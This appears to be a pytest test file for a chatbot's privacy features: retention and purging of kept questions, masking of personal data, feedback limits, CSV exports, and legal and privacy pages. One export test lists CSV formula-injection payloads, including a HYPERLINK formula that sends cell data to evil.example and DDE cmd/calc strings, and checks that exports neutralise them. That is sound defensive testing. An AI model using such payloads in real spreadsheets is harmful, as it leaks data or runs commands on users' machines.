"""What is kept of a visitor: nothing, unless the owner keeps questions, and then without who asked."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import stat
import threading
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from playwright.sync_api import Browser
from pydantic import SecretStr
from sqlalchemy import insert

from browsing import visiting
from combinations import one_of
from event_loops import run_apart
from keeping import keep_question, kept
from partnerbot.answering.answer import Answer
from partnerbot.cli import main
from partnerbot.errors import ConfigurationError
from partnerbot.passwords import hashed
from partnerbot.records import COUNTS, FEEDBACK, QUESTIONS, Records
from partnerbot.settings import Settings
from partnerbot.web import reception
from partnerbot.web.limits.client_store import Allowance
from partnerbot.web.page_texts import languages, texts_of
from partnerbot.web.records.feedback import LARGEST_DAY_BYTES, OF_ONE_DAY_BYTES
from partnerbot.web.records.personal_data import EMAIL, masked
from partnerbot.web.records.questions import ready
from partnerbot.web.statements import statement_pages
from scripted_bot import ScriptedBot
from serving import api_of, free_port, serving
from waiting import wait_until

VITAGORA = "When did Vitagora open its Kumamoto office?"
NOON = datetime(2026, 3, 10, 12, 5, 42, tzinfo=UTC)


def at(state: Path) -> Settings:
    return Settings(state=state, keep_questions_days=3)


@pytest.fixture
def answer(tmp_path: Path) -> Answer:
    return ScriptedBot(tmp_path / "bot").ask(VITAGORA)


# ---- The log -----------------------------------------------------------------------------------


def test_nothing_is_kept_by_default(tmp_path: Path) -> None:
    """Asking leaves no file behind."""
    bot = ScriptedBot(tmp_path)
    with TestClient(api_of(bot), "http://127.0.0.1") as client:
        assert client.post("/api/ask", json={"question": VITAGORA}).status_code == 200
    assert not bot.settings.state.exists()


def test_a_kept_question_says_nothing_of_who_asked(tmp_path: Path) -> None:
    """The question masked, what became of it and the minute; no address, no header, no history."""
    bot = ScriptedBot(tmp_path, keep_questions_days=30)
    question = f"{VITAGORA} Answer to ken@example.jp"
    with TestClient(api_of(bot), "http://127.0.0.1", client=("203.0.113.77", 5)) as client:
        body = {"question": question, "history": [{"role": "user", "content": "secret history"}]}
        client.post("/api/ask", json=body, headers={"User-Agent": "Identifying/1.0"})
    (entry,) = kept(bot.settings, QUESTIONS)
    kept_of_all = {"id", "day", "time", "language", "outcome", "question", "follows", "sources"}
    assert entry.keys() == kept_of_all | {"vector", "asks"}
    assert entry["question"] == f"{VITAGORA} Answer to {EMAIL}"
    assert entry["vector"] == ready(entry["question"]).vector.astype("<f2").tobytes()
    assert entry["sources"] == ["dijon.fr.md", "articles/熊本 交流.md"]
    assert entry["follows"] == []
    assert (entry["time"].second, entry["time"].microsecond) == (0, 0)
    files = [*bot.settings.state.iterdir()]
    content = b"".join(file.read_bytes() for file in files)
    for trace in ("203.0.113.77", "Identifying", "secret history"):
        assert trace.encode() not in content
    assert EMAIL.encode() in content
    assert {stat.S_IMODE(file.stat().st_mode) for file in files} == {0o600}
    assert stat.S_IMODE(bot.settings.state.stat().st_mode) == 0o700


def test_a_kept_follow_up_says_what_it_follows(tmp_path: Path) -> None:
    """Masked as it is itself; only what it was understood after, and where questions are kept."""
    for days in (30, 0):
        bot = ScriptedBot(
            tmp_path / str(days), keep_questions_days=days, staff_password_hash=hashed("x" * 12)
        )
        earlier = ["Private matters", f"{VITAGORA} Answer to ken@example.jp"]
        body = {
            "question": "And in Dijon?",
            "language": "en",
            "history": [{"role": "user", "content": text} for text in earlier],
        }
        with TestClient(api_of(bot), "http://127.0.0.1") as client:
            assert client.post("/api/ask", json=body).json()["follows"] == earlier[1:]
        told = [(entry["question"], entry["follows"]) for entry in kept(bot.settings, QUESTIONS)]
        assert told == ([("And in Dijon?", [f"{VITAGORA} Answer to {EMAIL}"])] if days else [])
        assert b"Vitagora" not in b"".join(f.read_bytes() for f in bot.settings.state.iterdir() if not days)


def test_an_entry_is_gone_when_its_days_are_over(tmp_path: Path, answer: Answer) -> None:
    """Not a day later; younger ones stay. Nothing of it is left in the file."""
    settings = ScriptedBot(tmp_path / "kept", keep_questions_days=3).settings
    for age in range(6):
        changed = {"question": f"Since {age} days"}
        keep_question(settings, answer.model_copy(update=changed), NOON - timedelta(days=age))
    assert Records(settings).purge(today=NOON.date()) == 3
    assert [f"{entry['day']}" for entry in kept(settings, QUESTIONS)] == [
        "2026-03-10",
        "2026-03-09",
        "2026-03-08",
    ]
    content = b"".join(file.read_bytes() for file in settings.state.iterdir())
    assert [f"Since {age} days".encode() in content for age in range(6)] == [True] * 3 + [False] * 3


def test_no_longer_keeping_deletes_what_was_kept(tmp_path: Path) -> None:
    """A server that starts with 0 days purges at once, so that its privacy page is true."""
    state = tmp_path / "state"
    keeping = ScriptedBot(tmp_path / "a", keep_questions_days=30, state=state)
    with TestClient(api_of(keeping), "http://127.0.0.1") as client:
        client.post("/api/ask", json={"question": VITAGORA})
    assert len(kept(keeping.settings, QUESTIONS)) == 1
    with TestClient(api_of(ScriptedBot(tmp_path / "b", state=state)), "http://127.0.0.1") as client:
        client.get("/health")
        client.post("/api/ask", json={"question": VITAGORA})
        wait_until(lambda: not kept(keeping.settings, QUESTIONS), "the old entry is deleted")


def test_a_full_disk_loses_the_entry_and_not_the_answer(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """What can't be kept is told to the operator only, without its words; a file that comes back is used."""
    bot = ScriptedBot(tmp_path, keep_questions_days=3, staff_password_hash=hashed("quatre mots de passe"))
    bot.settings.state.mkdir()
    file = bot.settings.state / "records.sqlite"
    with TestClient(api_of(bot), "http://127.0.0.1") as client:
        for spoilt in ("no database", ""):
            file.write_text(spoilt)
            assert client.post("/api/ask", json={"question": VITAGORA}).status_code == 200
            assert client.post("/api/feedback", json=WORD).status_code == (503 if spoilt else 204)
    assert "A question isn't kept: What is kept in" in caplog.text
    assert "Kumamoto" not in caplog.text
    assert [len(kept(bot.settings, table)) for table in (COUNTS, QUESTIONS, FEEDBACK)] == [1, 1, 1]


def test_without_its_database_a_replica_answers(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """A PostgreSQL that has gone keeps nobody waiting; an address that is none stops the start."""
    address = f"postgresql://partner:secret@127.0.0.1:{free_port()}/records"
    bot = ScriptedBot(tmp_path, keep_questions_days=3, records=address)
    with TestClient(api_of(bot), "http://127.0.0.1") as client:
        assert client.post("/api/ask", json={"question": VITAGORA}).status_code == 200
        assert client.post("/api/feedback", json=WORD).status_code == 503
    assert "What is kept in PostgreSQL can't be read or written" in caplog.text
    assert "secret" not in caplog.text
    assert "Kumamoto" not in caplog.text
    for wrong in ("records.example", "redis://127.0.0.1"):
        with pytest.raises(ConfigurationError, match="PARTNERBOT_RECORDS"):
            Records(Settings(records=SecretStr(wrong)))


# ---- Feedback ----------------------------------------------------------------------------------

WORD = {
    "useful": False,
    "comment": "Écrivez à jean@mairie.example ou au 06 12 34 56 78",
    "language": "fr",
    "status": "answered",
    "question": "Mon passeport 12AB34567 ?",
    "answer": "Appelez le 03 80 00 00 00.",
}


@pytest.mark.parametrize("with_questions", [False, True])
def test_feedback_is_masked(tmp_path: Path, with_questions: bool) -> None:
    """Question and answer only if the owner wants them; e-mail addresses and numbers never."""
    bot = ScriptedBot(tmp_path, feedback_questions=with_questions)
    with TestClient(api_of(bot), "http://127.0.0.1", client=("203.0.113.77", 5)) as client:
        assert client.post("/api/feedback", json=WORD).status_code == 204
    (word,) = kept(bot.settings, FEEDBACK)
    assert word["comment"] == f"Écrivez à {EMAIL} ou au [numéro]"
    expected = ("Mon passeport [numéro] ?", "Appelez le [numéro].") if with_questions else (None, None)
    assert (word["question"], word["answer"]) == expected
    assert not [file for file in bot.settings.state.iterdir() if b"203.0.113.77" in file.read_bytes()]


def test_feedback_fills_no_disk(tmp_path: Path) -> None:
    """A day has its end for all together: then visitors are told that theirs isn't kept."""
    bot = ScriptedBot(tmp_path)
    app = api_of(bot)
    full = Allowance("all_feedback", per_day=LARGEST_DAY_BYTES)
    app.state.reception.clients.counting(lambda counts: full.take(counts, "all", LARGEST_DAY_BYTES - 400))
    client = TestClient(app, "http://127.0.0.1")
    assert client.post("/api/feedback", json=WORD).status_code == 204
    refused = client.post("/api/feedback", json=WORD, headers={"Accept-Language": "ja"})
    assert (refused.status_code, refused.json()["error"]["reason"]) == (429, "not_kept")
    assert refused.json()["error"]["message"] == texts_of("ja").feedback.failed
    assert len(kept(bot.settings, FEEDBACK)) == 1
    assert client.post("/api/feedback", json=WORD | {"comment": "x" * 3000}).status_code == 422


def test_one_client_leaves_room_for_the_feedback_of_others(tmp_path: Path) -> None:
    """What it sends is counted in bytes; sources are documents of ours."""
    bot = ScriptedBot(tmp_path, feedback_questions=True)
    app = api_of(bot)
    long = {"comment": "😀" * 2000, "question": "😀" * 1000, "answer": "😀" * 4000}
    word = WORD | long | {"sources": ["dijon.fr.md", "Any text"]}

    async def give(address: str) -> int:
        transport = httpx.ASGITransport(app, client=(address, 1234))
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            return (await client.post("/api/feedback", json=word)).status_code

    statuses = [run_apart(give("203.0.113.7")) for _ in range(10)]
    assert (statuses[0], statuses[-1]) == (204, 429)
    assert run_apart(give("203.0.113.8")) == 204
    words = kept(bot.settings, FEEDBACK)
    assert sum(len(f"{word}".encode()) for word in words[:-1]) <= OF_ONE_DAY_BYTES
    assert {tuple(word["sources"]) for word in words} == {("dijon.fr.md",)}
    networks = [run_apart(give(f"2001:db8:1:{number}::5")) for number in range(40)]
    assert (networks[0], networks[-1]) == (204, 429)  # of one site
    assert run_apart(give("2001:db8:2:1::5")) == 204


def test_who_has_sent_enough_feedback_causes_no_more_work(tmp_path: Path) -> None:
    """What is refused is not even looked at."""
    bot = ScriptedBot(tmp_path)
    looked_up: list[str] = []
    text_of = bot.document_text
    bot.document_text = lambda source: (looked_up.append(source), text_of(source))[1]  # type: ignore[method-assign]
    word = WORD | {"comment": "😀" * 2000, "answer": "😀" * 4000, "sources": ["none.md"]}
    with TestClient(api_of(bot), "http://127.0.0.1") as client:
        statuses = [client.post("/api/feedback", json=word).status_code for _ in range(20)]
    assert statuses[-1] == 429
    assert looked_up.count("none.md") == statuses.count(204) > 0


def test_where_no_feedback_is_wanted_there_is_no_way_to_give_it(tmp_path: Path) -> None:
    """The route is closed, and the chat doesn't ask."""
    client = TestClient(api_of(ScriptedBot(tmp_path, feedback=False)), "http://127.0.0.1")
    assert client.post("/api/feedback", json=WORD).status_code in (404, 405)


def test_deleting_in_time_outlives_any_failure(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, answer: Answer
) -> None:
    """What fails is logged and tried again; the rest is deleted all the same."""
    monkeypatch.setattr(reception, "PURGED_EVERY_SECONDS", 0)
    bot = ScriptedBot(tmp_path / "kept", keep_questions_days=3)
    keep_question(bot.settings, answer, NOON)
    entrance = reception.Reception(bot)
    tries = iter([RuntimeError("first"), OSError("second"), ConfigurationError("third")])
    tried_again = threading.Event()

    purge = entrance.records.purge

    def purging_in_vain() -> None:
        if (error := next(tries, None)) is not None:
            raise error
        purge()
        tried_again.set()

    monkeypatch.setattr(entrance.records, "purge", purging_in_vain)

    async def scene() -> None:
        purging = asyncio.create_task(entrance.purge_in_time())
        assert await asyncio.to_thread(tried_again.wait, 10)
        purging.cancel()

    run_apart(scene())
    assert kept(bot.settings, QUESTIONS) == []
    assert all(reason in caplog.text for reason in ("first", "second", "third"))


# ---- Exports -----------------------------------------------------------------------------------


@pytest.fixture
def run(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> Iterator[Callable[..., str]]:
    """Run `partnerbot questions` on tmp_path, with three days, in Paris; return what it printed."""
    monkeypatch.setenv("PARTNERBOT_STATE", str(tmp_path))
    monkeypatch.setenv("PARTNERBOT_KEEP_QUESTIONS_DAYS", "3")
    monkeypatch.setenv("TZ", "Europe/Paris")
    time.tzset()

    def command(*arguments: str, name: str = "questions") -> str:
        monkeypatch.setattr("sys.argv", ["partnerbot", name, *arguments])
        with pytest.raises(SystemExit) as ended:
            main()
        assert not ended.value.code
        return capsys.readouterr().out

    yield command
    monkeypatch.undo()
    time.tzset()


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "  =1+1",
        "＝1＋1",
        "\t=1+1",
    ],
)
def test_a_spreadsheet_calculates_nothing_of_an_export(
    tmp_path: Path, answer: Answer, run: Callable[..., str], formula: str
) -> None:
    """A question that is a formula is text in the table, and whole."""
    keep_question(at(tmp_path), answer.model_copy(update={"question": formula}), NOON)
    (row,) = in_columns(run())
    assert row["question"].startswith("'")
    assert row["question"].replace("'", "") == masked(formula).replace("'", "")


@pytest.mark.parametrize("separator", [";", "; ", ";;", "\t", "\n", "\r\n", "\r", ';"', ';""', ";\t", "\n;"])
def test_nor_where_it_splits_a_question(
    tmp_path: Path, answer: Answer, run: Callable[..., str], separator: str
) -> None:
    """A French Excel begins a cell at each ";": none that it sees is a formula, and no word is lost."""
    formulas = ["=cmd|'/C calc'!A0", "+1", "-2+3", "@SUM(A1)", "＝1＋1"]
    questions = [f"Horaires ?{separator}{formula};" for formula in formulas]
    for question in questions:
        keep_question(at(tmp_path), answer.model_copy(update={"question": question}), NOON)
    table = run()
    for cell in re.split(r"[;\t\r\n]", table):
        assert not re.match(r'[\s"]*[=+\-@＝＋－＠]', cell), table
    rows = list(in_columns(table))
    assert [row["question"].replace("'", "") for row in rows] == [
        masked(question).replace("'", "") for question in questions
    ]


def test_a_question_without_a_formula_stays_as_it_was_asked(
    tmp_path: Path, answer: Answer, run: Callable[..., str]
) -> None:
    """Hyphens, sums and several sentences are left alone."""
    question = "Dijon-Kumamoto ; l'accord, 2+2 = 4 ?\nEt après; rien"
    keep_question(at(tmp_path), answer.model_copy(update={"question": question}), NOON)
    (row,) = in_columns(run())
    assert row["question"] == question


def in_columns(table: str) -> list[dict[str, str]]:
    """The rows of a table as a French Excel opens it."""
    assert table.startswith("\ufeff"), "Excel would take it for another encoding"
    return list(csv.DictReader(io.StringIO(table[1:], newline=""), delimiter=";"))


def test_export(tmp_path: Path, answer: Answer, run: Callable[..., str]) -> None:
    """A table, or JSON a line."""
    keep_question(at(tmp_path), answer, NOON)
    assert [row["question"] for row in in_columns(run())] == [VITAGORA]
    assert json.loads(run("--json"))["language"] == "en"


def test_staff_see_the_questions_they_look_for(
    tmp_path: Path, answer: Answer, run: Callable[..., str]
) -> None:
    """By day, language, outcome and words, at the time of their clock; small talk is told apart."""
    late = NOON.replace(hour=23, minute=30)  # the next day in Paris
    for changed, when in (
        ({}, NOON),
        ({"question": "Le prix ?", "language": "fr", "status": "not_in_documents"}, late),
        ({"question": "Hello", "kind": "conversation"}, late),
    ):
        keep_question(at(tmp_path), answer.model_copy(update=changed), when)

    def found(*arguments: str) -> list[str]:
        return [row["question"] for row in in_columns(run(*arguments))]

    assert found() == [VITAGORA, "Le prix ?", "Hello"]
    assert found("--since", "2026-03-11") == ["Le prix ?", "Hello"]
    assert found("--until", "2026-03-10") == [VITAGORA]
    assert found("--language", "fr") == found("--outcome", "not_in_documents") == ["Le prix ?"]
    assert found("--outcome", "conversation") == ["Hello"]
    assert found("--containing", "VITAGORA") == [VITAGORA]
    assert json.loads(run("--containing", "prix", "--json"))["time"] == "2026-03-11T00:30:00+01:00"


def test_like_questions_are_one(tmp_path: Path, answer: Answer, run: Callable[..., str]) -> None:
    """In other words and in other languages; the most frequent first, with how often and how it ended."""
    asked = ["What are your opening hours?", "When are you open?", "Quels sont vos horaires d'ouverture ?"]
    for question in [VITAGORA, *asked, asked[0]]:
        keep_question(at(tmp_path), answer.model_copy(update={"question": question}), NOON)
    first, second = in_columns(run("--grouped"))
    assert (first["count"], second["count"]) == ("4", "1")
    assert first["question"].startswith(f"{asked[0]} (2); ")
    assert sorted(first["question"].split("; ")[1:]) == sorted(f"{one} (1)" for one in asked[1:])
    assert second["last"] == "2026-03-10 13:05"
    assert (second["question"], second["outcome"]) == (VITAGORA, "Réponse trouvée")
    as_json = json.loads(run("--grouped", "--json").splitlines()[0])
    assert (as_json["question"][asked[0]], as_json["outcome"]) == (2, {"answered": 4})


def test_staff_see_what_visitors_said(
    tmp_path: Path, run: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A "no" with its reason is one word, with its question where questions are kept."""
    app = api_of(ScriptedBot(tmp_path / "bot", state=tmp_path, keep_questions_days=3))
    name = {"name": "0123456789abcdef"}
    with TestClient(app, "http://127.0.0.1") as client:
        for word in ({"useful": True}, name, name | {"reason": "incomplete"}, {"reason": "wrong"}):
            assert client.post("/api/feedback", json=WORD | word).status_code == 204
    rows = list(in_columns(run(name="feedback")))
    assert [(row["useful"], row["reason"]) for row in rows] == [
        ("yes", ""),
        ("no", "incomplete"),
        ("no", "wrong"),
    ]
    assert [row["question"] for row in rows] == ["", *["Mon passeport [numéro] ?"] * 2]
    negative = run("--not-useful", "--json", name="feedback").splitlines()
    assert [json.loads(line)["reason"] for line in negative] == ["incomplete", "wrong"]
    (grouped, _) = in_columns(run("--grouped", name="feedback"))
    assert (grouped["count"], grouped["useful"]) == ("2", "no")
    told = {"useful": True, "language": "fr", "outcome": "answered", "comment": "\x1b[31mTrop\nlong"}
    Records(at(tmp_path)).change(
        insert(FEEDBACK).values(**told, day=NOON.date(), time=NOON.replace(tzinfo=None), sources=[])
    )
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    shown = run("--until", "2026-03-10", name="feedback")
    assert shown == "2026-03-10 13:05 · yes · fr · answered\n    comment: [31mTrop long\n\n"


# ---- The page ----------------------------------------------------------------------------------


def privacy_page(folder: Path, language: str, **settings: object) -> str:
    app = FastAPI()
    app.include_router(statement_pages(ScriptedBot(folder, **settings).settings))
    client = TestClient(app)
    response = client.get(f"/privacy/{language}")
    assert response.status_code == 200
    assert "script-src" not in response.headers["content-security-policy"]
    assert client.get("/privacy/xx").status_code == 404
    wanted = client.get(f"/privacy?lang={language}", follow_redirects=False)
    assert wanted.headers["location"] == f"/privacy/{language}"
    for other in languages():
        assert f'href="/privacy/{other}" lang="{other}"' in response.text
    return response.text


@pytest.mark.parametrize("language", languages())
def test_the_privacy_page_says_what_the_settings_do(tmp_path: Path, language: str) -> None:
    """Kept or not, for how long, where questions are counted, which sites show the chat, whom to ask."""
    texts = texts_of(language).privacy
    plain = privacy_page(tmp_path / "a", language)
    assert texts.not_kept in plain
    assert texts.address_in_memory in plain
    assert texts.sites not in plain
    keeping = privacy_page(
        tmp_path / "b",
        language,
        keep_questions_days=17,
        limits_store="redis://127.0.0.1:1",
        allowed_origins="https://www.dijon.example",
        contact="dpo@example.org",
        llm="ollama:gemma3:12b",
    )
    assert texts.answering in plain
    assert texts.answering not in keeping
    assert "ollama:gemma3:12b" in keeping
    assert texts.not_kept not in keeping
    assert texts.kept.format(days=17) in keeping
    assert texts.address_in_store in keeping
    assert "https://www.dijon.example" in keeping
    assert "mailto:dpo@example.org" in keeping
    assert "{" not in keeping
    assert texts.legitimate_interest in plain
    assert "CNIL" in plain
    assert texts.feedback_without in plain
    # Nobody is told how a question is found that isn't kept.
    assert texts.find_questions in keeping
    assert texts.find_feedback in plain
    assert texts.find_questions not in plain
    assert texts.feedback_with_negative in keeping
    assert texts.feedback_kept.format(days=17) in keeping  # no later than the questions in it


@pytest.mark.parametrize("language", languages())
def test_the_legal_pages_say_what_the_owner_states(tmp_path: Path, language: str) -> None:
    """Who publishes and hosts, who is responsible and on what basis; what isn't stated has no place."""
    texts = texts_of(language)
    appearance = tmp_path / "appearance.toml"
    appearance.write_text(
        '[legal]\npublisher = "Ville de Clairmoulin <1 place>"\nhost = "Hébergement SA"\n'
        'basis = "public_interest"\n',
        "utf-8",
    )
    legal, privacy = legal_pages(appearance, language, contact="")[:2]
    assert "Ville de Clairmoulin &lt;1 place&gt;" in legal
    assert "Ville de Clairmoulin &lt;1 place&gt;" in privacy
    assert "Hébergement SA" in legal
    assert texts.legal.host in legal
    assert texts.legal.director not in legal
    assert texts.legal.contact not in re.findall("<h2>(.*?)</h2>", legal)
    assert texts.legal.reuse in legal
    assert texts.privacy.dpo not in privacy
    assert texts.privacy.public_interest in privacy
    levels = [int(level) for level in re.findall(r"<h(\d)", privacy)]
    assert levels[0] == 1
    assert set(levels[1:]) == {2}


def legal_pages(appearance: Path, language: str, **settings: object) -> list[str]:
    """The legal notice, the privacy page and the statement of accessibility."""
    app = FastAPI()
    folder = appearance.parent / f"bot{len(list(appearance.parent.iterdir()))}"
    bot = ScriptedBot(folder, appearance=appearance, **settings)
    app.include_router(statement_pages(bot.settings))
    client = TestClient(app)
    return [client.get(f"/{page}/{language}").text for page in ("legal", "privacy", "accessibility")]


def test_the_legal_pages_name_every_way_to_the_institution_and_its_officer(tmp_path: Path) -> None:
    """In lines, the telephone and addresses as links; the officer is whom one writes to about data."""
    appearance = tmp_path / "appearance.toml"
    appearance.write_text(
        '[contact]\ntelephone = "+33 (0)3 80 00 00 00"\nemail = "mairie@clairmoulin.example"\n'
        'hours.fr = "de 9 h à 17 h"\n[legal]\npublisher = """\nClairmoulin\n1 place"""\n'
        'dpo = "Paul Dupont, dpo@clairmoulin.example"\nreuse.fr = "Licence ouverte 2.0"\n'
        'transfers = "To Japan, which the Commission finds adequate."\n',
        "utf-8",
    )
    legal, privacy, _ = legal_pages(appearance, "fr", contact="mairie@clairmoulin.example")
    assert "Clairmoulin\n1 place</p>" in legal
    assert '<a href="tel:+33380000000"' in legal
    assert "Horaires\u00a0: de 9 h à 17 h" in legal
    assert "Licence ouverte 2.0" in legal
    assert texts_of("fr").legal.reuse not in legal
    assert privacy.count('href="mailto:dpo@clairmoulin.example"') == 2
    assert "mailto:mairie@" not in privacy
    assert "which the Commission finds adequate" in privacy


def test_a_public_body_names_its_scheme_and_plan_of_accessibility(tmp_path: Path) -> None:
    """Those that article 47 wants, where they are stated; nothing is said of one that isn't."""
    appearance = tmp_path / "appearance.toml"
    scheme = "https://clairmoulin.example/schema-2026-2028.pdf"
    appearance.write_text(f'[legal]\nbasis = "public_interest"\naccessibility_scheme = "{scheme}"\n', "utf-8")
    texts = texts_of("fr").accessibility
    statement = legal_pages(appearance, "fr")[2]
    assert f'<a href="{scheme}" rel="noopener">{texts.scheme}</a>' in statement
    assert texts.plan not in statement
    appearance.write_text("", "utf-8")
    assert texts.strategy not in legal_pages(appearance, "fr")[2]


def test_what_an_owner_gives_in_another_language_is_marked_so(tmp_path: Path) -> None:
    """With its language, for who hears the page; hours say in words which one that is. What is the same in
    the reader's own language is not."""
    appearance = tmp_path / "appearance.toml"
    appearance.write_text(
        '[contact]\nemail = "mairie@clairmoulin.example"\nhours.fr = "le lundi : de 9 h à 17 h"\n'
        'address.fr = "1 place de la Mairie"\n[legal]\nreuse.fr = "Licence ouverte 2.0"\n'
        'transfers = { fr = "GENCI", en = "GENCI" }\n',
        "utf-8",
    )
    contact = "mairie@clairmoulin.example"
    legal, privacy, _ = legal_pages(appearance, "en", contact=contact)
    assert "GENCI" in privacy
    assert ">GENCI</span>" not in privacy
    assert 'Opening hours: <span lang="fr">le lundi\u00a0: de 9 h à 17 h</span> (French)' in legal
    assert 'Address: <span lang="fr">1 place de la Mairie</span>\n' in legal
    assert '<p><span lang="fr">Licence ouverte 2.0</span></p>' in legal
    assert "(français)" not in legal_pages(appearance, "fr", contact=contact)[0]


@pytest.mark.parametrize("language", languages())
def test_who_is_no_public_body_declares_no_conformity(tmp_path: Path, language: str) -> None:
    """The law doesn't ask it: the page tells what was tested, the foot links to it. An audit is told."""
    texts, appearance = texts_of(language), tmp_path / "appearance.toml"
    appearance.write_text("", "utf-8")
    legal, _, statement = legal_pages(appearance, language)
    told = texts.accessibility
    for left_out in (told.none, told.state_heading, told.remedy_heading, "2005-102", "RGAA", "formulaire.de"):
        assert left_out not in statement
    assert told.tests_heading in statement
    assert told.contact_heading in statement
    assert f">{texts.page.accessibility}</a>" in legal
    appearance.write_text('[legal.audit]\nday = 2026-10-01\nby = "Audit & Cie"\npercent = 60\n', "utf-8")
    audited = legal_pages(appearance, language)[2]
    assert (told.partial in audited, "2005-102" in audited) == (True, False)


@pytest.mark.parametrize("language", languages())
@pytest.mark.parametrize(
    ("percent", "state"), [(None, "none"), (49.9, "none"), (50, "partial"), (99.5, "partial"), (100, "full")]
)
def test_the_state_of_accessibility_is_named_as_the_rgaa_names_it(
    tmp_path: Path, language: str, percent: float | None, state: str
) -> None:
    """By the share of criteria that an audit found met; without one, not compliant. Each foot says it."""
    texts = texts_of(language).accessibility
    appearance = tmp_path / "appearance.toml"
    audit = f'[legal.audit]\nday = 2026-10-01\nby = "Audit & Cie"\npercent = {percent}\n'
    appearance.write_text('[legal]\nbasis = "public_interest"\n' + audit * (percent is not None), "utf-8")
    legal, _, statement = legal_pages(
        appearance, language, public_url="https://questions.clairmoulin.example"
    )
    assert texts.state.format(level=vars(texts)[state]) in statement
    assert f"{vars(texts)[state]}</a>" in legal
    assert ("Audit &amp; Cie" in statement) is (percent is not None)
    assert (texts.unaudited in statement) is (percent is None)
    assert "questions.clairmoulin.example" in statement
    assert "{" not in statement


@pytest.mark.browser
@pytest.mark.parametrize("language", one_of(["fr", "ja", "en"], "fr"))
def test_the_browser_keeps_nothing(tmp_path: Path, browser: Browser, language: str) -> None:
    """No cookie ever, no storage before a question, then the tab's conversation until it is cleared."""
    with serving(ScriptedBot(tmp_path), chats=[language]) as address, visiting(browser, address) as visitor:
        page = visitor.open(language)
        notice = page.locator(".pb-welcome .pb-notice")
        assert notice.is_visible()
        assert texts_of(language).page.notice in notice.inner_text()
        stored = (
            "async () => [localStorage.length, (await indexedDB.databases()).length,"
            " (await caches.keys()).length,"
            " (await navigator.serviceWorker.getRegistrations()).length, ...Object.keys(sessionStorage)]"
        )
        assert page.evaluate(stored) == [0, 0, 0, 0]
        visitor.ask(VITAGORA)
        assert page.context.cookies() == []
        page.wait_for_function("() => sessionStorage.length === 1")
        assert page.evaluate(stored) == [0, 0, 0, 0, "partnerbot"]
        with page.expect_popup() as opened:
            page.locator("#foot [href^='/privacy/']").click()
        assert opened.value.locator("h1").inner_text() == texts_of(language).privacy.title
        page.locator("#clear").click()
        page.wait_for_function("() => sessionStorage.length === 0")
